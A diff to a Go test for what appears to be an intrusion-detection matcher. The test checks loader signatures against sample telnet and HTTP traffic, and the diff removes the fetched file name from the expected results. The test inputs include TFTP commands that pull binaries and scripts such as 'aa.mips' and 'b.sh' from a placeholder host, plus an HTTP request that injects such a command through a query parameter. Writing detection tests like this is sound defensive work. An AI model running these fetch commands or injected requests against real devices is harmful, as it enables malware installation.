@@ -176,26 +176,26 @@ signatures:
 	for _, c := range []struct {
 		port uint16
 		in   string
-		want string // signature:evidence:fetched ...
+		want string // signature:evidence ...
 	}{
-		{23, "tftp -g -r aa.mips h", "loader-a:strong:aa.mips"},
-		{23, "tftp -g -r /x/AA.MIPS h", "loader-a:strong:/x/AA.MIPS"},
-		{23, "tftp h -c get prefixa.sh", "loader-a:strong:prefixa.sh"},
-		{23, "tftp -g -r b.sh h; tftp -g -r aa.x h", "loader-b:strong:b.sh loader-a:strong:aa.x"},
-		{23, "tftp -g -r b.sh h; tftp -g -r b.sh h", "loader-b:strong:b.sh"},
-		{23, "tftp -g -r x.sh h", "generic:weak:x.sh"},
-		{23, "tftp -g -r c.exe h", "generic:weak:c.exe"}, // listed, but no rule for it here
-		{23, "tftp -g -r x.sh h; tftp -g -r aa.1 h", "generic:weak:x.sh loader-a:strong:aa.1"},
-		{80, "GET /?c=tftp+-g+-r+b.sh+h HTTP/1.1", "generic:weak:b.sh"}, // loader-b does not look at 80
-		{80, "GET /?c=tftp+-g+-r+a.sh+h HTTP/1.1", "loader-a:strong:a.sh"},
-		{23, "tftp -g -r " + strings.Repeat("a", 300) + " h", "generic:weak:" + strings.Repeat("a", maxFetchName)},
+		{23, "tftp -g -r aa.mips h", "loader-a:strong"},
+		{23, "tftp -g -r /x/AA.MIPS h", "loader-a:strong"},
+		{23, "tftp h -c get prefixa.sh", "loader-a:strong"},
+		{23, "tftp -g -r b.sh h; tftp -g -r aa.x h", "loader-b:strong loader-a:strong"},
+		{23, "tftp -g -r b.sh h; tftp -g -r b.sh h", "loader-b:strong"},
+		{23, "tftp -g -r x.sh h", "generic:weak"},
+		{23, "tftp -g -r c.exe h", "generic:weak"}, // listed, but no rule for it here
+		{23, "tftp -g -r x.sh h; tftp -g -r aa.1 h", "generic:weak loader-a:strong"},
+		{80, "GET /?c=tftp+-g+-r+b.sh+h HTTP/1.1", "generic:weak"}, // loader-b does not look at 80
+		{80, "GET /?c=tftp+-g+-r+a.sh+h HTTP/1.1", "loader-a:strong"},
+		{23, "tftp -g -r " + strings.Repeat("a", 300) + " h", "generic:weak"},
 		{23, "cat aa.mips b.sh; echo tftp", ""},
 		{80, "GET /aa.mips HTTP/1.1", ""},
 		{2323, "tftp -g -r aa.mips h", ""},
 	} {
 		var got []string
 		s.MatchPayloads(TCP, c.port, []byte(c.in), func(m PayloadMatch) bool {
-			got = append(got, m.Signature.ID+":"+m.Payload.Evidence.String()+":"+string(m.Fetched))
+			got = append(got, m.Signature.ID+":"+m.Payload.Evidence.String())
 			return true
 		})
 		if g := strings.Join(got, " "); g != c.want {
